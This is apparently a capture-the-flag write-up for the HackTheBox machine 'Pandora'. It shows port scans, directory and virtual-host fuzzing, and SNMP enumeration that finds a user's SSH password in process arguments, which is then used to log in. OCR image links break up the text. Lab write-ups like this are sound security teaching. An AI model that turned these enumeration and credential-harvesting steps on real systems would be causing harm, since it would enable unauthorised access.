Pandora starts off with some SNMP enumeration to find a username and password that can be used to get a shell. This provides access to a Pandora FMS system on localhost, which has multiple vulnerabilities. I’ll exploit a SQL injection to read the database and get session cookies. I can exploit that same page to get admin and upload a webshell, or exploit another command injection CVE to get execution. To get root, there’s a simple path hijack in a SUID binary, but I will have to switch to SSH access, as there’s a sandbox in an Apache module preventing my running SUID as root while a descendant process of Apache. I’ll explore that in depth in Beyond Root.

Box Info

Name Pandora Pandora
Play on HackTheBox
Release Date 08 Jan 2022
Retire Date 21 May 2022
OS Linux Linux
Base Points Easy [20]
Rated Difficulty Rated difficulty for Pandora
Radar Graph Radar chart for Pandora
First Blood User 01:46:47jazzpizazz
First Blood Root 02:01:23JoshSH
Creators TheCyberGeek



nmap finds two open TCP ports, SSH (22) and HTTP (80):oxdf@hacky$ nmap -p- --min-rate 10000
Starting Nmap 7.80 ( ) at 2022-05-18 19:51 UTC
Nmap scan report for
Host is up (0.092s latency).
Not shown: 65533 closed ports
22/tcp open  ssh
80/tcp open  http

Nmap done: 1 IP address (1 host up) scanned in 7.74 seconds
oxdf@hacky$ nmap -p 22,80 -sCV
Starting Nmap 7.80 ( ) at 2022-05-18 19:51 UTC
Nmap scan report forHost is up (0.090s latency).

22/tcp open  ssh     OpenSSH 8.2p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
80/tcp open  http    Apache httpd 2.4.41 ((Ubuntu))
|_http-server-header: Apache/2.4.41 (Ubuntu)
|_http-title: Play | Landing
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scannedin 9.97 seconds

Based on the OpenSSH and Apache versions, the host is likely running Ubuntu 20.04 focal.

I’ll also scan for top UDP ports, and find one, SNMP (161):

oxdf@hacky$ sudo nmap -sU -top-ports=100 panda.htb
Starting Nmap 7.80 ( ) at 2022-05-18 20:10 UTC
Nmap scan report for panda.htb (
Host is up (0.089s latency).
Not shown: 99 closed ports
161/udp open  snmp

Nmap done: 1 IP address (1 host up) scanned in 95.71 seconds

panda.htb - TCP 80


The site is for “Play”, and “extention of Panda.HTB”:

All the links lead to places on the page. There is a contact us form at the bottom, but it doesn’t look like it does anything.

I’ll add panda.htb to my /etc/hosts file, but the same page loads.

Tech Stack

The response headers don’t give much additional information.

I can take some guesses at what the extension on the index page is, and find it’s index.html.

Directory Brute Force

I’ll run feroxbuster against the site:

oxdf@hacky$ feroxbuster -u___  ___  __   __     __      __         __   ___
|__  |__  |__) |__) | /  `    /  \ \_/ | |  \ |__
|    |___ |  \ |  \ | \__,    \__/ / \ | |__/ |___
by Ben "epi" Risher                  ver: 2.7.1
   Target Url            │
   Threads               │ 50
   Wordlist              │ /usr/share/seclists/Discovery/Web-Content/raft-medium-directories.txt
   Status Codes          │ [200, 204, 301, 302, 307, 308, 401, 403, 405, 500]Timeout (secs)        │ 7
   User-Agent            │ feroxbuster/2.7.1
   HTTP methods          │ [GET]
   Recursion Depth       │ 4
   Press [ENTER] to use the Scan Management Menu™
200      GET      907l     2081w    33560c
301      GET        9l       28w      313c =>
403      GET        9l       28w      277c[###] - 1m     90000/90000   0s      found:3       errors:0
[###] - 1m     30000/30000   497/s
[###] - 1m     30000/30000   491/s
[###] - 0s     30000/30000   0/s => Directory listing (add -e to scan)

Nothing interesting here.

Virtual Hosts

Given the mention of panda.htb, I’ll fuzz for subdomains using wfuzz. The default case seems to be 33560 characters, so I’ll add --hh 33560 to the end:

oxdf@hacky$ wfuzz -u http://panda.htb -H "Host: FUZZ.panda.htb" -w /usr/share/seclists/Discovery/DNS/subdomains-top1million-5000.txt --hh 33560
* Wfuzz 2.4.5 - The Web Fuzzer                         *

Target: http://panda.htb/Total requests: 4989

ID           Response   Lines    Word     Chars       Payload

Total time: 61.58577
Processed Requests: 4989
Filtered Requests: 4989
Requests/sec.: 81.00896

Surprisingly, nothing.

SNMP - UDP 161


Simple network management protocol (SNMP) is a protocol for managing andsharing information about devices across the internet. The most recent version is version 3, which was released in 2004, and yet, version 2 is probably the mostcommon in use on the internet. There isn’t too much in the way of authentication in v2, as most instances use the string “public”, so it’s not uncommon to be able to just dump a ton of data about a device with access to UDP 161.


I’ll run snmpwalk (apt install snmp snmp-mibs-downloader, see Sneaky for details), and it generates a lot of information:

oxdf@hacky$ snmpwalk -v 2c -c public | tee snmp-full
SNMPv2-MIB::sysDescr.0 = STRING: Linux pandora 5.4.0-91-generic #102-Ubuntu SMP Fri Nov 5 16:31:28 UTC 2021 x86_64
SNMPv2-MIB::sysObjectID.0 = OID: NET-SNMP-MIB::netSnmpAgentOIDs.10
DISMAN-EVENT-MIB::sysUpTimeInstance = Timeticks: (227623) 0:37:56.23
SNMPv2-MIB::sysContact.0 = STRING: Daniel
SNMPv2-MIB::sysName.0 = STRING: pandora
SNMPv2-MIB::sysLocation.0 = STRING: Mississippi
SNMPv2-MIB::sysServices.0 = INTEGER: 72I’ll pipe that into tee to save it in a file for easier analysis.

If you’re seeing iso. instead of SNMPv2-MIB::sysDescr.0, make sure you have installed the snmp-mibs-downloader and edited the /etc/snmp/snmp.conf file as described in my Sneaky post.

This runs really slow, and IppSec tipped me off to a tool that will run snmpwalk with threads, snmpbulkwalk. -Cr X will tell if to run with X threads, and it runs way faster:

oxdf@hacky$ snmpbulkwalk -Cr1000 -c public -v2c > snmp-full-bullk


SNMP gives all kinds of information about a box. For example, it shows some basic information about the host like uptime, a contact name, and location:DISMAN-EVENT-MIB::sysUpTimeInstance = Timeticks: (227623) 0:37:56.23
SNMPv2-MIB::sysContact.0 = STRING: Daniel
SNMPv2-MIB::sysName.0 = STRING: pandora
SNMPv2-MIB::sysLocation.0 = STRING: Mississippi

There’s network information (IPv4 and IPv6, not shown):

IP-MIB::ipAdEntAddr. = IpAddress:
IP-MIB::ipAdEntAddr. = IpAddress:
IP-MIB::ipAdEntIfIndex. = INTEGER: 2
IP-MIB::ipAdEntIfIndex. = INTEGER: 1
IP-MIB::ipAdEntNetMask. = IpAddress:

It shows netstat like information, including listening ports:

TCP-MIB::tcpConnState. = INTEGER: listen(2)
TCP-MIB::tcpConnState. = INTEGER: listen(2)
TCP-MIB::tcpConnState. = INTEGER: listen(2)
UDP-MIB::udpLocalPort. = INTEGER: 161
UDP-MIB::udpLocalPort. = INTEGER: 53

There’s information about running processes:

HOST-RESOURCES-MIB::hrSWRunName.1 = STRING: "systemd"
HOST-RESOURCES-MIB::hrSWRunName.2 = STRING: "kthreadd"
HOST-RESOURCES-MIB::hrSWRunName.3 = STRING: "rcu_gp"
HOST-RESOURCES-MIB::hrSWRunName.4 = STRING: "rcu_par_gp"
HOST-RESOURCES-MIB::hrSWRunName.6 = STRING: "kworker/0:0H-kblockd"
HOST-RESOURCES-MIB::hrSWRunName.9 = STRING: "mm_percpu_wq"
HOST-RESOURCES-MIB::hrSWRunName.10 = STRING: "ksoftirqd/0"
HOST-RESOURCES-MIB::hrSWRunName.11 = STRING: "rcu_sched"
HOST-RESOURCES-MIB::hrSWRunName.12 = STRING: "migration/0"
HOST-RESOURCES-MIB::hrSWRunName.13 = STRING: "idle_inject/0"
HOST-RESOURCES-MIB::hrSWRunName.14 = STRING: "cpuhp/0"
HOST-RESOURCES-MIB::hrSWRunName.15 = STRING: "cpuhp/1"
HOST-RESOURCES-MIB::hrSWRunName.16 = STRING: "idle_inject/1"
HOST-RESOURCES-MIB::hrSWRunName.17 = STRING: "migration/1"
HOST-RESOURCES-MIB::hrSWRunName.18 = STRING: "ksoftirqd/1"
HOST-RESOURCES-MIB::hrSWRunName.20 = STRING: "kworker/1:0H-kblockd"
HOST-RESOURCES-MIB::hrSWRunName.21 = STRING: "kdevtmpfs"
HOST-RESOURCES-MIB::hrSWRunName.22 = STRING: "netns"
HOST-RESOURCES-MIB::hrSWRunName.23 = STRING:"rcu_tasks_kthre"
HOST-RESOURCES-MIB::hrSWRunName.24 = STRING: "kauditd"

There’s also information about the path each process is running from:

HOST-RESOURCES-MIB::hrSWRunPath.1 = STRING: "/sbin/init"

And the rest ofthe command line (the parameters):

HOST-RESOURCES-MIB::hrSWRunParameters.1 = STRING: "maybe-ubiquity"

There’s a list of the installed packages:

HOST-RESOURCES-MIB::hrSWInstalledName.748 = STRING: "python3.8_3.8.10-0ubuntu1~20.04.2_amd64"
HOST-RESOURCES-MIB::hrSWInstalledName.749 = STRING: "python3.8-minimal_3.8.10-0ubuntu1~20.04.2_amd64"
HOST-RESOURCES-MIB::hrSWInstalledName.750 = STRING: "readline-common_8.0-4_all"
HOST-RESOURCES-MIB::hrSWInstalledName.751 = STRING: "rsync_3.1.3-8ubuntu0.1_amd64"
HOST-RESOURCES-MIB::hrSWInstalledName.752 = STRING: "rsyslog_8.2001.0-1ubuntu1.1_amd64"
HOST-RESOURCES-MIB::hrSWInstalledName.753 = STRING: "run-one_1.17-0ubuntu1_all"
HOST-RESOURCES-MIB::hrSWInstalledName.754 = STRING: "sbsigntool_0.9.2-2ubuntu1_amd64"Script Process List

Never shying away from an opertunity to practice Python, I’ll write a quick script that will print a more clear processes list. Right now I have the binary and the arguments hundreds of lines apart, connected only by the PID number. I’ll write the following script:

#!/usr/bin/env python3

import re
import sys
from collections import defaultdict
from dataclasses import dataclass

class Process:
    """Process read from SNMP"""
    pid: int
    proc: str
    args: str = ""def __str__(self) -> str:
        return f'{} {self.proc} {self.args}'

with open(sys.argv[1]) as f:
    data =

processes = {}

for match in re.findall(r'HOST-RESOURCES-MIB::hrSWRunName\.(\d+) = STRING: "(.+)"', data):
    processes[match[0]] = Process(int(match[0]), match[1])

for match in re.findall(r'HOST-RESOURCES-MIB::hrSWRunParameters\.(\d+) = STRING: "(.+)"', data):
    processes[match[0]].args = match[1]

for p in processes.values():

I’m making use of a Python dataclass to easily store information about each process, and format how I’ll print it. With a dataclass, I don’t have to define the __init__ function, but rather just define theparameters or the class that will be set at init. the __str__ function shows how an object of this class is converted to a string, which happens when I print it.

I’ll user regex to match the lines that have the names and then those that have the parameters. I’ll assume that each pid that has parameters will have already had a Process object created for it when it found the name line.

This prints a nice process list:

oxdf@hacky$ python snmp-full
0001 systemd maybe-ubiquity
0002 kthreadd
0003 rcu_gp
0004 rcu_par_gp
0006 kworker/0:0H-kblockd
0009 mm_percpu_wq
0010 ksoftirqd/0
0011 rcu_sched
0012 migration/0
0013 idle_inject/0
0014 cpuhp/0
0015 cpuhp/1
0016 idle_inject/1

Again, this was totally unnecessary, but a fun scripting opportunity.

Shell as daniel


Looking through the process list, there’s a process that’s running a script, /usr/bin/host_check, which seems like it may be passing a username and password:

0852 sh -c sleep 30; /bin/bash -c '/usr/bin/host_check -u daniel -p HotelBabylon23'
1115 host_check -u daniel -p HotelBabylon23


These creds work to SSH as daniel:

oxdf@hacky$ sshpass -p 'HotelBabylon23' ssh daniel@Shell as matt


Home Dirs

There’s nothing at all in daniel’s home directory:

daniel@pandora:~$ ls -la
total 28
drwxr-xr-x 4 daniel daniel 4096 May 18 23:52 .
drwxr-xr-x 4 root   root   4096 Dec  7 14:32 ..
lrwxrwxrwx 1 daniel daniel    9 Jun 11  2021 .bash_history -> /dev/null
-rw-r--r-- 1 daniel daniel  220 Feb 25  2020 .bash_logout
-rw-r--r-- 1 daniel daniel 3771 Feb 25  2020 .bashrc
drwx--- 2 daniel daniel 4096 May 18 23:52 .cache
-rw-r--r-- 1 daniel daniel  807 Feb 25  2020 .profile
